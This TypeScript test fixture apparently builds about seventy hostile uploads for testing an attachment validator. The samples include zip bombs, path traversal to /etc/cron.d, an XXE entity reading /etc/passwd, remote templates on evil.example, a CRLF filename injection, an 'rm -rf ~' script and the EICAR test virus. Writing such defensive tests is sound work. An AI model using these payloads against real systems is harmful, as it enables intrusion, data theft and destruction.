import { strToU8, zipSync } from "fflate";
import sharp from "sharp";
import type { FileFault } from "#app/domain/attachments/faults.ts";
import { TEST_VIRUS } from "#app/services/attachments/disguise.server.ts";
import {
  aDocx,
  aFilm,
  aFlood,
  aPdf,
  aPhoto,
  aXlsx,
  docxWith,
  outside,
  pdfWithPacked,
  pngChunk,
} from "./upload-files.ts";
import { join, rawZip } from "./zip.ts";

export type HostileUpload = {
  what: string;
  name: string;
  declared?: string;
  bytes: () => Uint8Array | Promise<Uint8Array>;
  fault: FileFault;
};

const MB = 1024 * 1024;
const HTML = "<!DOCTYPE html><html><script>alert(1)</script></html>";
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const OLE = Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array(504).fill(0));
const text = strToU8;
const half = (bytes: Uint8Array) => bytes.subarray(0, bytes.length >> 1);
const jpeg = () => aPhoto("jpeg");
const png = () => aPhoto("png");
const row = (
  what: string,
  name: string,
  fault: FileFault,
  bytes: HostileUpload["bytes"],
  declared?: string,
): HostileUpload => ({ what, name, fault, bytes, ...(declared ? { declared } : {}) });
const TYPES = (type: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`;
const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const entries = (more: Parameters<typeof rawZip>[0]) => [
  { name: "[Content_Types].xml", content: TYPES(WORD) },
  { name: "word/document.xml", content: "<w:document/>" },
  ...more,
];

/** What never was one of ours. */
const FOREIGN = [
  row("nothing at all", "trong.pdf", "empty", () => new Uint8Array()),
  row("a page of the web", "trang.html", "type", () => text(HTML), "text/html"),
  row("a page called PDF", "trang.pdf", "type", () => text(HTML)),
  row("a page called JPEG", "trang.jpg", "type", () => text(HTML), "image/jpeg"),
  row("a drawing that runs", "hinh.svg", "type", () => text(SVG), "image/svg+xml"),
  row("a drawing called PNG", "hinh.png", "type", () => text(SVG), "image/png"),
  row("a drawing with a heading", "hinh.webp", "type", () => text(`<?xml version="1.0"?>${SVG}`)),
  row("a program", "cai-dat.exe", "type", () => text("MZ\u0090\0\u0003")),
  row("a program called PDF", "cai-dat.pdf", "type", () => text("MZ\u0090\0\u0003")),
  row("a script", "chay.js", "type", () => text("alert(1)")),
  row("a script called DOCX", "chay.docx", "type", () => text("#!/bin/sh\nrm -rf ~")),
  row("a moving GIF", "anh.gif", "type", () => aFilm("gif")),
  row("a GIF called PNG", "anh.png", "type", () => aFilm("gif")),
  row("an archive", "goi.zip", "type", () => zipSync({ a: text("a") })),
  row("an archive called DOCX", "goi.docx", "type", () => zipSync({ a: text("a") })),
  row("old Word", "cu.doc", "type", () => OLE),
  row("old or locked Word called DOCX", "khoa.docx", "locked", () => OLE),
  row("random bytes", "rac.pdf", "type", () => new Uint8Array(5_000).map((_, i) => (i * 37) % 251)),
  row("two endings", "anh.jpg.exe", "type", jpeg),
  row("no ending", "anh", "type", jpeg),
  row("words", "chu.txt", "type", () => text("xin chào")),
];

/** What is one of ours under another name. */
const MISNAMED = [
  row("a PDF called PNG", "anh.png", "mismatch", () => aPdf()),
  row("a JPEG called PNG", "anh.png", "mismatch", jpeg),
  row("a PNG called PDF", "anh.pdf", "mismatch", png),
  row("Excel called Word", "bang.docx", "mismatch", () => aXlsx()),
  row("Word called Excel", "bang.xlsx", "mismatch", () => aDocx()),
  row("a PDF declared as a page", "a.pdf", "mismatch", () => aPdf(), "text/html"),
  row("a JPEG declared as a drawing", "a.jpg", "mismatch", jpeg, "image/svg+xml"),
  row("a reversed name", "anh\u202egpj.exe.jpg", "name", jpeg),
  row("a name with a line break", "a\r\nSet-Cookie: x.pdf", "name", () => aPdf()),
  row("a name that is only an ending", ".pdf", "name", () => aPdf()),
  row("a name without end", `${"a".repeat(300)}.pdf`, "name", () => aPdf()),
];

/** What is two things at once. */
const DOUBLE = [
  row("a PDF that begins as a page", "a.pdf", "disguised", () => aPdf({ head: `%${HTML}\n` })),
  row("a PDF with an archive behind", "a.pdf", "disguised", () =>
    join([aPdf(), zipSync({ "a.js": text("alert(1)") })]),
  ),
  row("a JPEG with an archive behind", "a.jpg", "disguised", async () =>
    join([await jpeg(), zipSync({ a: text("a") })]),
  ),
  row("a JPEG that begins as a page", "a.jpg", "disguised", async () => {
    const photo = await jpeg();
    const note = text(HTML);
    const mark = Uint8Array.of(0xff, 0xfe, 0, note.length + 2);
    return join([photo.subarray(0, 2), mark, note, photo.subarray(2)]);
  }),
  row("a PNG that begins as a PDF", "a.png", "disguised", async () => {
    const picture = await png();
    const note = pngChunk("tEXt", text("a\0%PDF-1.7"));
    return join([picture.subarray(0, 33), note, picture.subarray(33)]);
  }),
  row("a PDF with bytes before", "a.pdf", "type", () => join([text("GIF8"), aPdf()])),
  row("a PDF without an end", "a.pdf", "damaged", () => aPdf({ end: "" })),
  row("a PDF cut off", "a.pdf", "damaged", () =>
    half(aPdf({ objects: `% ${"x".repeat(9_000)}\n` })),
  ),
  row("a PDF that unpacks to too much", "a.pdf", "unpacked", () =>
    pdfWithPacked(new Uint8Array(9 * MB)),
  ),
];

/** Pictures that cost more than they show. */
const PICTURES = [
  row("half a JPEG", "a.jpg", "damaged", async () => half(await jpeg())),
  row("half a PNG", "a.png", "damaged", async () => half(await png())),
  row("half a WebP", "a.webp", "damaged", async () => half(await aPhoto("webp"))),
  row("a JPEG of four bytes", "a.jpg", "damaged", () => Uint8Array.of(0xff, 0xd8, 0xff, 0xe0)),
  row("a flood of pixels", "a.png", "pixels", () => aFlood(6_400, 6_400)),
  row("a flood that says so only", "a.png", "pixels", async () => {
    const picture = await sharp({
      create: { width: 8, height: 8, channels: 3, background: "#000" },
    })
      .png()
      .toBuffer();
    const head = Buffer.from(picture.subarray(16, 29));
    head.writeUInt32BE(60_000, 0);
    head.writeUInt32BE(60_000, 4);
    return join([picture.subarray(0, 8), pngChunk("IHDR", head), picture.subarray(33)]);
  }),
  row("a moving WebP", "a.webp", "animated", () => aFilm("webp")),
  row("a moving PNG", "a.png", "animated", async () => {
    const picture = await png();
    const frames = pngChunk("acTL", Uint8Array.of(0, 0, 39, 16, 0, 0, 0, 0));
    return join([picture.subarray(0, 33), frames, picture.subarray(33)]);
  }),
];

/** Archives that lie, and documents that act. */
const OFFICE = [
  row("a bomb", "a.docx", "unpacked", () =>
    rawZip(entries([{ name: "word/a.xml", content: new Uint8Array(60 * MB) }])),
  ),
  row("a bomb of many parts", "a.docx", "unpacked", () =>
    rawZip(
      entries(
        Array.from({ length: 80 }, (_, i) => ({ name: `w/${i}.xml`, content: new Uint8Array(MB) })),
      ),
    ),
  ),
  row("a bomb with a lying size", "a.docx", "unpacked", () =>
    rawZip(entries([{ name: "word/a.xml", content: new Uint8Array(60 * MB), size: 10 }])),
  ),
  row("too many parts", "a.docx", "unpacked", () =>
    rawZip(entries(Array.from({ length: 1_001 }, (_, i) => ({ name: `w/${i}.xml`, content: "" })))),
  ),
  row("parts that share bytes", "a.docx", "disguised", () => {
    const inner = { name: "b.xml", content: "<b/>" };
    const outer = entries([{ name: "a.bin", content: rawZip([inner]), method: 0 }]);
    const offset = Buffer.from(rawZip(outer)).indexOf("b.xml") - 30;
    return rawZip([...outer, { ...inner, offset }]);
  }),
  row("a wrong checksum", "a.docx", "damaged", () =>
    rawZip(entries([{ name: "a.xml", content: "<a/>", crc: 1 }])),
  ),
  row("a way out", "a.docx", "disguised", () =>
    rawZip(entries([{ name: "../../etc/cron.d/a", content: "" }])),
  ),
  row("a link", "a.docx", "disguised", () =>
    rawZip(entries([{ name: "a", content: "/etc/passwd", attributes: 0xa1ff0000 }])),
  ),
  row("a locked part", "a.docx", "locked", () =>
    rawZip(entries([{ name: "a.xml", content: "<a/>", flags: 1 }])),
  ),
  row("half an archive", "a.docx", "damaged", () => half(aDocx("chữ ".repeat(4_000)))),
  row("a macro", "a.docx", "macros", () => docxWith({ "word/vbaProject.bin": "x" })),
  row("a macro under another name", "a.docx", "macros", () =>
    docxWith({
      "[Content_Types].xml": TYPES(
        `${WORD}"/><Override ContentType="application/vnd.ms-office.vbaProject`,
      ),
    }),
  ),
  row("a program inside", "a.docx", "macros", () => docxWith({ "word/embeddings/a.exe": "MZ" })),
  row("a control that runs", "a.xlsx", "macros", () =>
    aXlsx({ "xl/activeX/activeX1.xml": "<a/>" }),
  ),
  row("an entity that reads files", "a.docx", "reaching_out", () =>
    docxWith({
      "word/document.xml":
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>',
    }),
  ),
  row("an entity in two bytes a letter", "a.docx", "reaching_out", () =>
    docxWith({
      "word/document.xml": new Uint8Array(Buffer.from("\ufeff<!DOCTYPE a><a/>", "utf16le")),
    }),
  ),
  row("a template from elsewhere", "a.docx", "reaching_out", () =>
    docxWith({
      "word/_rels/settings.xml.rels": outside("attachedTemplate", "http://evil.example/a.dotm"),
    }),
  ),
  row("an object from elsewhere", "a.xlsx", "reaching_out", () =>
    aXlsx({ "xl/_rels/a.xml.rels": outside("oleObject", "\\\\evil.example\\a") }),
  ),
];

/** The test virus, in the open and inside of things. */
const VIRUS = TEST_VIRUS.toString("latin1");
const INFECTED = [
  row("the test virus", "eicar.com", "type", () => text(VIRUS)),
  row("the test virus called PDF", "eicar.pdf", "infected", () => text(VIRUS)),
  row("the test virus in a PDF", "a.pdf", "infected", () => aPdf({ objects: `% ${VIRUS}\n` })),
  row("the test virus in Word", "a.docx", "infected", () =>
    docxWith({ "word/media/a.txt": VIRUS }),
  ),
  row("the test virus in Excel", "a.xlsx", "infected", () => aXlsx({ "xl/media/a.txt": VIRUS })),
];

/** Some seventy files that nobody should be able to leave with us. */
export const HOSTILE_UPLOADS: readonly HostileUpload[] = [
  ...FOREIGN,
  ...MISNAMED,
  ...DOUBLE,
  ...PICTURES,
  ...OFFICE,
  ...INFECTED,
];
